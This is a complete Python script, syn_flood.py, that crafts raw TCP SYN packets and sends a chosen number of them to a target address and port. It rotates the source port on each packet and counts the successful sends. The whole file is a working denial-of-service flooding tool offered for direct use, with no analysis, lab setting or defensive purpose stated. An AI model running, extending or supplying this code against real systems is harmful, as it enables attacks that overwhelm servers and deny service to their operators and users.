#!/usr/bin/python3
"""syn_flood.py SRC DST PORT COUNT: COUNT TCP SYNs from SRC to DST:PORT, each
from another source port, through a raw socket (the kernel adds the IP
header, routes and resolves the gateway). Prints how many were sent."""
import socket
import struct
import sys


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport):
    hdr = struct.pack("!HHIIBBHHH", sport, dport, 1, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(hdr))
    return hdr[:16] + struct.pack("!H", csum(pseudo + hdr)) + hdr[18:]


def main():
    src, dst, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    sent = 0
    for i in range(count):
        try:
            s.sendto(syn(src, dst, 20000 + i % 40000, port), (dst, 0))
            sent += 1
        except OSError:
            pass
    print(sent)


main()
